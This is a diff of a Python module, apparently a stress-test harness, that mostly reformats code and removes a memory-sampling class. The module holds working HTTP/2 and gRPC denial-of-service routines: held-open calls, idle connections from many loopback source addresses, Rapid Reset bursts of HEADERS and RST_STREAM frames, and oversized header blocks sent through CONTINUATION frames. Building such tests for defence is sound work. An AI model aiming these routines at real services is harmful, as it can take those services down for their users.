@@ -81,8 +81,12 @@ class _Connection:
         try:
             while True:
                 head = await self.reader.readexactly(9)
-                length, kind, flags, stream = int.from_bytes(head[:3], "big"), head[3], head[4], \
-                    int.from_bytes(head[5:], "big") & 0x7FFFFFFF
+                length, kind, flags, stream = (
+                    int.from_bytes(head[:3], "big"),
+                    head[3],
+                    head[4],
+                    int.from_bytes(head[5:], "big") & 0x7FFFFFFF,
+                )
                 payload = await self.reader.readexactly(length)
                 if kind == SETTINGS and not flags & ACK:
                     self.writer.write(frame(SETTINGS, ACK, 0))
@@ -107,8 +111,14 @@ class _Connection:
         self.more.set()
 
     async def call(self, stream: int, path: str, token: str | None, body: bytes, body_mb: float) -> None:
-        headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
-                   (":authority", f"{self.host}:{self.port}"), ("content-type", "application/grpc"), ("te", "trailers")]
+        headers = [
+            (":method", "POST"),
+            (":scheme", "http"),
+            (":path", path),
+            (":authority", f"{self.host}:{self.port}"),
+            ("content-type", "application/grpc"),
+            ("te", "trailers"),
+        ]
         if token is not None:
             headers.append(("authorization", f"Bearer {token}"))
         complete = self.mode == "unread"
@@ -151,9 +161,19 @@ class _Connection:
         self.writer.close()
 
 
-async def hold_calls(address: str, path: str, n: int, mode: str, seconds: float, token: str | None = None,
-                     per_connection: int = 100, body: bytes = b"", body_mb: float = 60.0,
-                     stop: threading.Event | None = None, tally: Tally | None = None) -> Tally:
+async def hold_calls(
+    address: str,
+    path: str,
+    n: int,
+    mode: str,
+    seconds: float,
+    token: str | None = None,
+    per_connection: int = 100,
+    body: bytes = b"",
+    body_mb: float = 60.0,
+    stop: threading.Event | None = None,
+    tally: Tally | None = None,
+) -> Tally:
     """Open `n` hostile calls to `path` at `address` and keep them going for `seconds` (or until the
     server ends them all, or `stop` is set); then close every connection. Returns what happened."""
     host, port = address.rsplit(":", 1)
@@ -167,8 +187,11 @@ async def hold_calls(address: str, path: str, n: int, mode: str, seconds: float,
             for i in range(min(per_connection, n - first)):
                 tasks.append(asyncio.ensure_future(connection.call(1 + 2 * i, path, token, body, body_mb)))
         end = asyncio.get_running_loop().time() + seconds
-        while (left := end - asyncio.get_running_loop().time()) > 0 and tally.answered < n and not (
-                stop and stop.is_set()):
+        while (
+            (left := end - asyncio.get_running_loop().time()) > 0
+            and tally.answered < n
+            and not (stop and stop.is_set())
+        ):
             await asyncio.sleep(min(0.1, left))  # the calls are held open meanwhile
     finally:
         for task in tasks:
@@ -216,8 +239,10 @@ async def hold_idle(address: str, n: int, seconds: float, tally: IdleTally | Non
     host, port = address.rsplit(":", 1)
     tally, start = tally or IdleTally(), time.monotonic()
     sources = [ATTACKER] if hosts == 1 else [f"127.0.{2 + i // 250}.{2 + i % 250}" for i in range(hosts)]
-    tasks = [asyncio.ensure_future(_idle_connection(host, int(port), sources[i % hosts], i % 2 == 1, tally, start))
-             for i in range(n)]
+    tasks = [
+        asyncio.ensure_future(_idle_connection(host, int(port), sources[i % hosts], i % 2 == 1, tally, start))
+        for i in range(n)
+    ]
     _, pending = await asyncio.wait(tasks, timeout=seconds)
     for task in pending:
         task.cancel()
@@ -228,8 +253,16 @@ async def hold_idle(address: str, n: int, seconds: float, tally: IdleTally | Non
 async def rapid_reset(address: str, path: str, connections: int, seconds: float, batch: int = 50) -> int:
     """On each of `connections` connections, HEADERS then RST_STREAM(CANCEL) on stream after stream, in
     batches of `batch`, for `seconds`; returns how many calls were opened and reset."""
-    block = header_block([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address),
-                          ("content-type", "application/grpc"), ("te", "trailers")])
+    block = header_block(
+        [
+            (":method", "POST"),
+            (":scheme", "http"),
+            (":path", path),
+            (":authority", address),
+            ("content-type", "application/grpc"),
+            ("te", "trailers"),
+        ]
+    )
 
     def burst(stream: int) -> tuple[bytes, int]:
         out = bytearray()
@@ -243,9 +276,17 @@ async def rapid_reset(address: str, path: str, connections: int, seconds: float,
 async def oversized_headers(address: str, path: str, connections: int, seconds: float, headers: int = 10_000) -> int:
     """On each of `connections` connections, call after call whose header block holds `headers` small
     headers (HEADERS and CONTINUATION frames of 16 KiB), back to back for `seconds`; returns the calls sent."""
-    block = header_block([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address),
-                          ("content-type", "application/grpc")] + [(f"x-h{i}", "v") for i in range(headers)])
-    pieces = [block[i:i + FRAME] for i in range(0, len(block), FRAME)]
+    block = header_block(
+        [
+            (":method", "POST"),
+            (":scheme", "http"),
+            (":path", path),
+            (":authority", address),
+            ("content-type", "application/grpc"),
+        ]
+        + [(f"x-h{i}", "v") for i in range(headers)]
+    )
+    pieces = [block[i : i + FRAME] for i in range(0, len(block), FRAME)]
 
     def call(stream: int) -> tuple[bytes, int]:
         out = bytearray(frame(HEADERS, END_HEADERS if len(pieces) == 1 else 0, stream, pieces[0]))
@@ -296,39 +337,12 @@ async def _drain(reader: asyncio.StreamReader) -> None:
         pass
 
 
-class PeakRss:
-    """The highest RSS (MB) of process `pid`, sampled every 10 ms on a thread while the `with` block runs."""
-
-    def __init__(self, pid: int):
-        import psutil
-
-        self.process, self.peak, self._stop = psutil.Process(pid), 0.0, threading.Event()
-        self._thread = threading.Thread(target=self._sample, daemon=True)
-
-    def rss(self) -> float:
-        return self.process.memory_info().rss / 2**20
-
-    def _sample(self) -> None:
-        while not self._stop.is_set():
-            self.peak = max(self.peak, self.rss())
-            time.sleep(0.01)
-
-    def __enter__(self) -> PeakRss:
-        self.peak = self.rss()
-        self._thread.start()
-        return self
-
-    def __exit__(self, *exc) -> None:
-        self._stop.set()
-        self._thread.join(timeout=10)
-        self.peak = max(self.peak, self.rss())
-
-
 class Attack:
     """`hold_calls` on a thread of its own, for as long as the `with` block runs (at most `seconds`)."""
 
     def __init__(self, *args, seconds: float = 120.0, **kwargs):
         self.stop, self.tally, self.n = threading.Event(), Tally(), args[2]
+
         def run() -> None:
             asyncio.run(hold_calls(*args, seconds=seconds, stop=self.stop, tally=self.tally, **kwargs))
 
